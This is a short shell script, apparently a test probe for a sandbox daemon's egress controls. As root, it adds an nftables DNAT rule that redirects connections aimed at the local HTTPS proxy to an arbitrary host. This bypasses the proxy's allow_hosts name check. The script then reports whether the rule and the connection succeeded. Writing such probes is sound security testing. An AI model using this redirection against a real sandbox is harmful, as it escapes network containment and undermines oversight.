#!/bin/sh
# Attack on [net] allow_hosts by root: the broker connects the command's
# TCP sockets to the proxy on 127.0.0.1:PORT in the host's network
# namespace; a nat OUTPUT rule the command adds itself (CAP_NET_ADMIN)
# sends that connect to HOST:HOSTPORT instead, past the proxy's name check.
#
#   egress_proxy_dnat.sh HOST HOSTPORT MARKER
#
# The proxy's port comes from HTTPS_PROXY. Prints probe-style lines.
# Removes its table before it exits.
host=$1 hport=$2 marker=$3
table=landlockd_attack_$marker
pport=${HTTPS_PROXY##*:}
if nft -f - <<NFT 2>/dev/null
table ip $table {
  chain out {
    type nat hook output priority -100;
    ip daddr 127.0.0.1 tcp dport $pport dnat to $host:$hport
  }
}
NFT
then echo "nft add: OK"; else echo "nft add: EPERM"; fi
/usr/bin/python3 - "$pport" "$marker" <<'PY'
import errno, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
try:
    s.connect(("127.0.0.1", int(sys.argv[1])))
    s.sendall(("CONNECT " + sys.argv[2] + ".invalid:443 HTTP/1.1\r\n\r\n").encode())
    print("connect: OK")
except OSError as e:
    print("connect: " + errno.errorcode[e.errno])
PY
nft delete table ip "$table" 2>/dev/null
exit 0
